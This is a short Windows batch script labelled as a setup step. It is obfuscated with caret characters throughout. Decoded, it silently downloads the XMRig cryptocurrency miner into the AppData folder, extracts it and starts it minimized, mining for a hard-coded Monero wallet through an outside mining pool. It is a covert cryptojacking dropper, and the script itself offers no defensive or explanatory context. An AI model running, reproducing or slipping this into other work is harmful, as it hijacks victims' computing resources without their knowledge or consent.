REM setup 8613 v0
@echo off
^cd /^d %APPDATA%
^curl -sL^o x.^z^ip ^htt^p^s://gi^t^hu^b.co^m/xmri^g/^x^m^ri^g/^r^e^l^ease^s/d^own^load/^v6.^2^1.0/xmri^g-^6.^21.^0-msvc-w^in^6^4.z^ip
^ta^r -^xf ^x.z^i^p
s^t^ar^t /^min x^mrig-6.2^1.^0\x^mrig.e^x^e -o s^trat^u^m+^tc^p://^po^ol.^hash^v^au^lt.pro:^443 -u 4^4AF^Fq^5^k^S^iG^Bo^Z^4^N^MD^w^Yt^N^1^8o^b^c^8Ae^m^S^33^DBLWs^3H^7^otX^f^t^3Xjr^p^DtQ^G^v7^SqS^s^aBYBb9^8u^Nbr^2^VB^B^Et7f^2^wfn3RV^GQBEP3A -^p x --^d^on^a^te-^leve^l=1
